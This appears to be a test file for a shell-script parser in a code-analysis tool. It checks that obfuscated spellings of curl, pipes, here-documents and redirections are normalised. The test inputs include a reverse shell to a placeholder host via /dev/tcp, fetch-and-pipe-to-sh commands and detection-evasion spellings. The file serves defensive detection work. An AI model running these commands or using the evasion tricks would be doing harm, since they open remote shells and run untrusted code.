/** What the shell adapter yields: the same whatever the spelling. */
import { shellAdapter } from "../../../../src/evidence/readers/languages/shell.ts";
import { UNBOUNDED } from "./mutate.ts";
import { renderSyntax } from "./render-syntax.ts";

const read = (text: string, path: string | null = null) =>
  shellAdapter.read(text, { language: "shell", path, budget: UNBOUNDED });
const shown = (text: string, path: string | null = null) => renderSyntax(read(text, path));

test.each([
  "curl -s x",
  "c''url -s x",
  `"cu"rl '-s' "x"`,
  "c\\url \\-s x",
  "$'\\x63url' $'\\055s' x",
  "$'\\143\\u0075rl' -s x",
  '$"curl" -s x',
  "cu\\\nrl \\\n -s x",
  "cu\\\r\nrl -s x\r\n",
  "curl${IFS}-s${IFS}x",
  "curl$IFS$9-s$IFS$9x",
  "curl${IFS%??}-s x",
  "{curl,-s,x}",
  "c$@url -s x",
  "c``url -s x",
  "c$()url -s x",
  "c$(true)url -s x",
  "  \tcurl\t-s  x   # why",
  "! curl -s x",
  "time -p curl -s x",
  "coproc curl -s x",
  ";;\nfi\ncurl -s x",
])("%j is curl -s x", (text) => {
  expect(shown(text)).toEqual(['curl("-s", "x")']);
});

test.each([
  [
    "pipes over lines and comments",
    "curl x | # why\n\n  sh -s \\\n a |& tee l",
    ['curl("x") | sh("-s", "a") | tee("l")'],
  ],
  ["chains", "a && b || c; d || e && f", ["if a() { b() } else { c() }", "if d() {  } else { if e() { f() } }"]],
  ["assignments in front of a condition", "x=$(curl y) && sh $x", ['$x = output { curl("y") }', "if <> { sh($x) }"]],
  ["detached commands", "a & ( b; c | d ) &", ["a()&", "output { b()&; c()& | d()& }"]],
  ["variables", 'X=1 Y="a$b" cmd $1 "$@" ${l[@]} ${l[2]}', ['X="1" Y="a"+$b cmd($1, ...$@, ...$l, $l.2)']],
  [
    "assignments on lines of their own",
    'a=1 b=2\nc+=3\nl=(x "y z")\nl[1]=w\nm=([k]=v)\nd=`ls`',
    ['$a = "1"', '$b = "2"', '$c += "3"', '$l = ["x", "y z"]', '$l.1 = "w"', '$m = {k: "v"}', "$d = output { ls() }"],
  ],
  [
    "exports",
    "export A=b C; declare -x D=e; local f=g; export -p",
    ['export $A = "b"', "export $C = $C", 'export $D = "e"', '$f = "g"', 'export("-p")'],
  ],
  ["exports of computed names", 'export "$k=$v"', ['export($k+"="+$v)']],
  [
    "defaults",
    "echo ${a:-b} ${c:+d} ${e?f}\n: ${g:=h}",
    ['echo(either($a, "b"), either("d", ""), $e)', '$g = either($g, "h")', ':(either($g, "h"))'],
  ],
  [
    "changed variables",
    "echo ${a#b} ${c//d/e} ${f:1:2} ${g^^} ${!h} ${#i}",
    [
      'echo($shell.cut-start($a, "b"), $shell.replace-all($c, "d", "e"), $shell.slice($f, "1", "2"), $shell.upper($g), $shell.indirect($h), <$i>)',
    ],
  ],
  ["calculations", "echo $((7)) $((a + $b)) $[c]", ['echo("7", <$a $b>, <$c>)']],
  [
    "here-documents",
    'cat <<A <<-"B" | sh\n1 $x `y`\nA\n\t2 $x\n\tB\nls',
    ['((cat() <<< "1 "+$x+" "+output { y() }+"\\n") <<< "2 $x\\n") | sh()', "ls()"],
  ],
  ["here-documents in substitutions", "x=$(cat <<E\nhi\nE\n)\nls", ['$x = output { (cat() <<< "hi\\n") }', "ls()"]],
  ["here-strings", 'sh <<< "$x"', ["(sh() <<< $x)"]],
  [
    "redirections",
    "a >f 2>&1 <g; b &>> h; > i; c 2>/dev/null >&2",
    ['((a() > "f") < "g")', '(b() >> "h")', '( > "i")', "c()"],
  ],
  [
    "what reads and writes a socket",
    "bash -i >& /dev/tcp/h.test/1 0>&1",
    ['((bash("-i") > "/dev/tcp/h.test/1") < "/dev/tcp/h.test/1")'],
  ],
  [
    "descriptors that were opened",
    "exec 3<>/dev/tcp/h.test/1\ncat <&3 >&3\nexec {f}>g; ls >&$f",
    [
      '((exec() < "/dev/tcp/h.test/1") > "/dev/tcp/h.test/1")',
      '((cat() < "/dev/tcp/h.test/1") > "/dev/tcp/h.test/1")',
      '(exec() > "g")',
      '(ls() > "g")',
    ],
  ],
  [
    "process substitution",
    "sh <(curl x); a > >(b); tee >(c)",
    ['sh(file { curl("x") })', "a() | output { b() }", "tee([output { c() }])"],
  ],
  ["functions", "f() { a $1; }\nfunction g ( b )\nf x", ["function f() { a($1) }", "function g() { b() }", 'f("x")']],
  [
    "conditions",
    'if [ -n "$x" ]; then a; elif test y; then b; else c; fi',
    ['if <"-n" $x> { a() } else { if <"y"> { b() } else { c() } }'],
  ],
  ["tests", "[[ $x == ru* && -f y ]] && a", ['if <$x "==" "ru*" "-f" "y"> { a() }']],
  [
    "loops",
    "for x in a $b; do c; done; while read l; do d $l; done < e; for ((;;)) { f; }",
    ['loop $x of ["a", $b] { c() }', '(output { loop read("l") { d($l) } } < "e")', "loop <> { f() }"],
  ],
  [
    "cases",
    "case $x in (a|b) c;; *) d;& esac | e",
    ['output { if <$x "a" "b"> { c() } else { if <$x "*"> { d() } } } | e()'],
  ],
  ["cases in substitutions", "x=$(case y in a) b;; esac); ls", ['$x = output { if <"y" "a"> { b() } }', "ls()"]],
  ["ends", "[ a ] && exit 1; b", ['if <"a"> { return "1" }', "b()"]],
  ["a comment that ends in a backslash", "# a \\\ncurl x", ['curl("x")']],
  ["a program in quotes", "sh -c 'curl x \\\n | sh'", ['sh("-c", "curl x \\\\\\n | sh")']],
  ["cut out expressions", 'echo "__expr0__" && x=__expr1__', ['if echo("__expr0__") { $x = "__expr1__" }']],
  ["blocks that are left open", "if a; then b\nc", ["if a() { b(); c() }"]],
  ["IFS that is set", "IFS=x; a${IFS}b", ['$IFS = "x"', '"a"+$IFS+"b"()']],
  ["$(<file)", "x=$(<f)", ['$x = output { ( < "f") }']],
])("reads %s", (_, text, expected) => {
  expect(shown(text)).toEqual(expected);
});

test("goes on behind a quote that never closes, and says so", () => {
  const { readAs, reason } = read("echo it's\ncurl x | sh\n");
  expect({ readAs, reason, shown: shown("echo it's\ncurl x | sh\n").at(-1) }).toEqual({
    readAs: "tree",
    reason: "a quote that never closes",
    shown: 'curl("x") | sh()',
  });
});

test("reads fish", () => {
  expect(
    shown(
      "function f -a x\n  if test $x\n    curl (string trim $x) | sh\n  else\n    b\n  end\nend\nset -gx A b; f c",
      "a.fish",
    ),
  ).toEqual([
    'function f() { $argv = $@; block { <$x>; curl(output { string("trim", $x) }) | sh(); b() } }',
    'export $A = "b"',
    'f("c")',
  ]);
});

test("gives lines of the program, through joined lines and here-documents", () => {
  const { body } = read("a\n\nb \\\n  | c\ncat <<E\nx\nE\nd $(\ne)");
  expect(body.map(({ line }) => line)).toEqual([1, 3, 5, 8]);
});

test("ends where the budget is spent", () => {
  const budget = { take: () => false, has: () => false, isSpent: true };
  expect(shellAdapter.read("curl x", { language: "shell", path: null, budget })).toEqual({
    readAs: "unread",
    reason: "budget spent",
    body: [],
  });
});
